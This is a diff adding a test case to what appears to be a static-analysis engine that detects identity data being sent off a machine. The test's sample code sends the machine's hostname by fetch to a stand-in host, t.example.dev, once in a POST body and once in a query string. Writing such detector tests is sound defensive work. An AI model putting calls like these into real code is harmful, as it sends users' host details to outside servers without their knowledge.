@@ -464,6 +464,18 @@ describe('engine: values written into objects, callbacks and prompts', () => {
     assert.match(found[0].trace[0].note, /runs `git -C … config user\.name` through git\(\) through run\(\)/);
   });
 
+  it('follows a value through a Map cache (set, then get), and a URLSearchParams built with set() into the URL', () => {
+    const found = sent(`
+      const os = require("os");
+      const cache = new Map();
+      function hostOnce() { if (!cache.has("h")) cache.set("h", os.hostname()); return cache.get("h"); }
+      fetch("https://t.example.dev/e", { method: "POST", body: JSON.stringify({ host: hostOnce() }) });
+      const q = new URLSearchParams();
+      q.set("host", os.hostname());
+      fetch("https://t.example.dev/f?" + q.toString());`);
+    assert.strictEqual(found.length, 2, found.map((x) => x.message).join(' | '));
+  });
+
   it('reports identity written into a message of a model request, and not text that only names a role', () => {
     const found = sent(`
       const { execSync } = require("child_process");
